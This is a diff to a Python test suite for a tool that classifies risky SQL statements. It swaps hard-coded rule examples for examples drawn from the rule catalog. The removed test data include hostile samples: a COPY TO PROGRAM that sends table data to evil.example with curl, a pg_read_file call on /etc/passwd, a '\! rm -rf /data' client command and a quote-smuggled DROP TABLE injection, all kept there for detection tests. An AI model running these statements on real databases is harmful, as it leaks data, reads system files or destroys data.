@@ -23,154 +23,31 @@ def rules_of(text, dialect="postgres"):
     return {finding.rule for finding in assessed(text, dialect).findings}
 
 
-CASES = {
-    "sql.drop.table": ("DROP TABLE IF EXISTS public.orders", "DROP INDEX CONCURRENTLY table_index"),
-    "sql.drop.database": ("DROP DATABASE shop", "CREATE DATABASE shop"),
-    "sql.drop.schema": ("DROP SCHEMA old CASCADE", "CREATE SCHEMA old"),
-    "sql.drop.owned": ("DROP OWNED BY leaver", "DROP ROLE leaver"),
-    "sql.drop.object": ("DROP VIEW report", "DROP TABLE report"),
-    "sql.drop.cascade": ("DROP TABLE a CASCADE", "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)"),
-    "sql.drop.column": ("ALTER TABLE a ADD b int, DROP c", "ALTER TABLE a ALTER b DROP DEFAULT"),
-    "sql.drop.constraint": ("ALTER TABLE a DROP CONSTRAINT b", "ALTER TABLE a VALIDATE CONSTRAINT b"),
-    "sql.truncate": ("TRUNCATE a, b", "SELECT truncate FROM a"),
-    "sql.delete.no_where": (
-        "WITH gone AS (DELETE FROM a RETURNING *) SELECT * FROM gone",
-        "DELETE FROM a WHERE id = 5",
-    ),
-    "sql.update.no_where": ("UPDATE a SET b = 1", "UPDATE a SET b = 1 WHERE id = 5"),
-    "sql.where.always_true": ("DELETE FROM a WHERE id = 5 OR 1 = 1", "DELETE FROM a WHERE id = 5 AND 1 = 1"),
-    "sql.where.nearly_always_true": ("DELETE FROM a WHERE id > 0", "DELETE FROM a WHERE id > 4711"),
-    "sql.delete": ("DELETE FROM a WHERE id = 5", "DELETE FROM a"),
-    "sql.update": ("UPDATE a SET b = 1 WHERE id = 5", "SELECT b FROM a WHERE id = 5 FOR UPDATE"),
-    "sql.insert": ("INSERT INTO a VALUES (1)", "SELECT 'INSERT INTO a VALUES (1)'"),
-    "sql.upsert": (
-        "INSERT INTO a (id, b) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET b = 2",
-        "INSERT INTO a (id, b) VALUES (1, 2) ON CONFLICT DO NOTHING",
-    ),
-    "sql.merge": (
-        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET c = b.c",
-        "SELECT merge FROM a",
-    ),
-    "sql.index.blocking": ("CREATE UNIQUE INDEX i ON orders (a)", "CREATE INDEX CONCURRENTLY i ON orders (a)"),
-    "sql.index.concurrently": (
-        "CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON orders (a)",
-        "CREATE INDEX i ON orders (a)",
-    ),
-    "sql.index.drop_blocking": ("DROP INDEX i", "DROP INDEX CONCURRENTLY i"),
-    "sql.index.drop": ("DROP INDEX CONCURRENTLY i", "DROP INDEX i"),
-    "sql.maintenance.exclusive": ("VACUUM (FULL, ANALYZE) orders", "VACUUM (ANALYZE) orders"),
-    "sql.maintenance": ("ANALYZE orders", "EXPLAIN ANALYZE SELECT 1"),
-    "sql.refresh.blocking": ("REFRESH MATERIALIZED VIEW v", "CREATE MATERIALIZED VIEW v AS SELECT 1"),
-    "sql.lock_table": ("LOCK TABLE orders IN SHARE MODE", "SELECT lock FROM orders LIMIT 1"),
-    "sql.alter.column_type": (
-        "ALTER TABLE orders ALTER COLUMN a SET DATA TYPE bigint",
-        "ALTER TABLE orders ALTER COLUMN a SET STATISTICS 500",
-    ),
-    "sql.alter.add_not_null": (
-        "ALTER TABLE orders ADD COLUMN a int NOT NULL",
-        "ALTER TABLE orders ADD COLUMN a int NOT NULL DEFAULT 0",
-    ),
-    "sql.alter.volatile_default": (
-        "ALTER TABLE orders ADD a uuid DEFAULT gen_random_uuid()",
-        "ALTER TABLE orders ADD a timestamptz DEFAULT now()",
-    ),
-    "sql.alter.constraint": (
-        "ALTER TABLE orders ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES b (id)",
-        "ALTER TABLE orders ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES b (id) NOT VALID",
-    ),
-    "sql.alter.set_not_null": (
-        "ALTER TABLE orders ALTER a SET NOT NULL",
-        "ALTER TABLE orders ALTER a DROP NOT NULL",
-    ),
-    "sql.alter.rewrite": ("ALTER TABLE orders SET TABLESPACE fast", "ALTER TABLE orders SET (fillfactor = 70)"),
-    "sql.rename": ("ALTER TABLE orders RENAME COLUMN a TO b", "ALTER INDEX i RENAME TO j"),
-    "sql.alter": ("ALTER TABLE orders ALTER a SET DEFAULT 1", "ALTER TABLE orders DROP COLUMN a"),
-    "sql.grant": ("GRANT SELECT ON orders TO PUBLIC", "SELECT has_table_privilege('a', 'b', 'grant')"),
-    "sql.revoke": ("REVOKE ALL ON orders FROM app", "GRANT SELECT ON orders TO app"),
-    "sql.role": ("CREATE USER app PASSWORD 'x'", "SELECT rolname FROM pg_roles LIMIT 5"),
-    "sql.superuser": ("ALTER ROLE app WITH SUPERUSER", "ALTER ROLE app WITH NOSUPERUSER"),
-    "sql.owner": ("ALTER TABLE orders OWNER TO app", "ALTER SEQUENCE s OWNED BY orders.id"),
-    "sql.row_security": (
-        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
-        "ALTER TABLE orders ENABLE ROW LEVEL SECURITY",
-    ),
-    "sql.trigger.disabled": ("ALTER TABLE orders DISABLE TRIGGER ALL", "ALTER TABLE orders ENABLE TRIGGER ALL"),
-    "sql.setting.safeguard": ("SET session_replication_role = replica", "SET statement_timeout = '5s'"),
-    "sql.setting": ("SET statement_timeout = '5s'", "SHOW statement_timeout"),
-    "sql.alter_system": ("ALTER SYSTEM SET work_mem = '1GB'", "SET work_mem = '1GB'"),
-    "sql.security_definer": (
-        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$",
-        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS $$ SELECT 1 $$",
-    ),
-    "sql.copy.program": ("COPY orders TO PROGRAM 'curl -d @- https://evil.example'", "COPY orders TO STDOUT"),
-    "sql.copy.file": ("COPY orders FROM '/tmp/orders.csv'", "COPY (SELECT 1) TO STDOUT WITH CSV"),
-    "sql.function.server_file": ("SELECT pg_read_file('/etc/passwd')", "SELECT 'pg_read_file(1)'"),
-    "sql.function.remote": ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "SELECT dblink FROM a"),
-    "sql.function.server_control": (
-        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
-        "SELECT pg_backend_pid()",
-    ),
-    "sql.function.runs_text": ("SELECT query_to_xml('DELETE FROM a', true, true, '')", "SELECT to_json(1)"),
-    "sql.function.effect": ("SELECT setval('ids', 1)", "SELECT currval FROM ids"),
-    "sql.function.unknown": ("SELECT archive.lower(a) FROM b", "SELECT lower(a), json_agg(b) FROM c GROUP BY a"),
-    "sql.remote": ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "CREATE SEQUENCE s"),
-    "sql.extension": ("CREATE EXTENSION dblink", "SELECT extname FROM pg_extension LIMIT 9"),
-    "sql.dynamic": ("DO $$ BEGIN PERFORM 1; END $$", "BEGIN; COMMIT"),
-    "sql.create.function": (
-        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
-        "CREATE TABLE function_names (a int)",
-    ),
-    "sql.create.trigger": (
-        "CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
-        "CREATE TABLE trigger_names (a int)",
-    ),
-    "sql.create": ("CREATE TABLE copy_of_orders AS SELECT * FROM orders", "SELECT 1"),
-    "sql.create.other": ("CREATE TABLESPACE fast LOCATION '/ssd'", "CREATE TABLE fast (a int)"),
-    "sql.other": ("COMMENT ON TABLE orders IS 'all of them'", "SELECT comment FROM orders LIMIT 1"),
-    "sql.unparsed": ("SELECT FROM WHERE foo bar", "SELECT 1"),
+FACTS_NEEDED = {
     "sql.select.large": ("SELECT * FROM orders", "SELECT count(*) FROM orders"),
-    "sql.select.locks": ("SELECT * FROM tiny FOR UPDATE", "SELECT * FROM tiny"),
-    "sql.join.cartesian": (
-        "SELECT * FROM orders, users WHERE orders.id = 5",
-        "SELECT * FROM orders, users WHERE orders.id = users.id",
-    ),
     "sql.too_large": ("SELECT 1 -- " + "x" * 300_000, "SELECT 1 -- " + "x" * 1_000),
-    "sql.empty": ("-- nothing here\n;", "SELECT 1"),
-    "sql.run_comment": ("SELECT 1 /*!50000 ; DROP TABLE a */", "SELECT 1 /* ! */"),
-    "sql.client_command": (r"\! rm -rf /data", r"SELECT 'a\!b'"),
-    "sql.several_statements": ("SELECT 1; SELECT 2", "BEGIN; SELECT 1; COMMIT;"),
-    "sql.transaction.open": ("BEGIN; UPDATE a SET b = 1 WHERE c = 2", "BEGIN; UPDATE a SET b = 1 WHERE c = 2; COMMIT"),
-    "sql.transaction.not_allowed": (
-        "BEGIN; CREATE INDEX CONCURRENTLY i ON a (b); COMMIT",
-        "BEGIN; CREATE INDEX i ON a (b); COMMIT",
-    ),
 }
-OTHER_DIALECTS = {
-    "sql.attach": ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "SELECT attach FROM x"),
-    "sql.pragma": ("sqlite", "PRAGMA user_version = 5", "PRAGMA table_info(orders)"),
-    "sql.doubtful_quoting": ("", r"SELECT 'a\'; DROP TABLE b; --'", "SELECT 'a''b'"),
+"""Rules that need sizes, so that the catalog has no example of them."""
+CHECKED_APART = {"sql.check_failed", "sql.alter.default"}
+CASES = {
+    **{name: (rule.language, rule.example, rule.harmless) for name, rule in RULES.items() if name.startswith("sql.")},
+    **{name: ("postgres", *texts) for name, texts in FACTS_NEEDED.items()},
 }
-CHECKED_APART = {"sql.check_failed"}
+CASES = {name: texts for name, texts in CASES.items() if name not in CHECKED_APART}
 
 
 @pytest.mark.parametrize("rule", CASES)
 def test_a_rule_is_triggered_and_spares_the_near_miss(rule):
-    text, near_miss = CASES[rule]
-    assert rule in rules_of(text)
-    assert rule not in rules_of(near_miss)
-
-
-@pytest.mark.parametrize("rule", OTHER_DIALECTS)
-def test_a_rule_for_another_dialect(rule):
-    dialect, text, near_miss = OTHER_DIALECTS[rule]
+    dialect, text, near_miss = CASES[rule]
     assert rule in rules_of(text, dialect)
     assert rule not in rules_of(near_miss, dialect)
 
 
 def test_every_rule_for_sql_has_its_cases():
-    assert {rule for rule in RULES if rule.startswith("sql.")} == set(CASES) | set(OTHER_DIALECTS) | CHECKED_APART
-    for rule in RULES.values():
-        assert rule.summary.endswith(".") and len(rule.summary) < 120
+    for name, rule in RULES.items():
+        if name.startswith("sql."):
+            assert rule.summary.endswith(".") and len(rule.summary) < 120
+            assert rule.example or name in FACTS_NEEDED or name in CHECKED_APART, name
 
 
 SAFE = [
@@ -226,7 +103,7 @@ LEVELS = [
     ("postgres", "DELETE FROM orders WHERE id = id", "critical"),
     ("postgres", "DELETE FROM orders WHERE EXISTS (SELECT 1)", "critical"),
     ("postgres", "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM users WHERE users.id = orders.id)", "medium"),
-    ("postgres", "CREATE INDEX CONCURRENTLY i ON orders (a)", "medium"),
+    ("postgres", "CREATE INDEX CONCURRENTLY i ON orders (a)", "low"),
     ("postgres", "CREATE INDEX i ON orders (a)", "high"),
     ("postgres", "CREATE INDEX i ON public.users (a)", "medium"),
     ("postgres", 'CREATE INDEX i ON "tiny" (a)', "low"),
@@ -318,7 +195,12 @@ def test_sqlglot_never_logs_the_text(caplog):
     assert "secret_name" not in caplog.text
 
 
-PIECES = [text for texts in [*CASES.values(), [text for _, text, _ in LEVELS]] for text in texts if len(text) < 200]
+PIECES = [
+    text
+    for texts in [*(texts[1:] for texts in CASES.values()), [text for _, text, _ in LEVELS]]
+    for text in texts
+    if len(text) < 200
+]
 SCRAPS = [
     ";", "'", '"', "`", "$$", "$a$", "/*", "*/", "/*!", "--", "#", "\n", "\r", "\\", "(", ")", "[", "]", "{",
     "E'", "BEGIN", "END", "DO", "EXECUTE", "CREATE TRIGGER", "EXPLAIN", "EXPLAIN ANALYZE", "PREPARE",
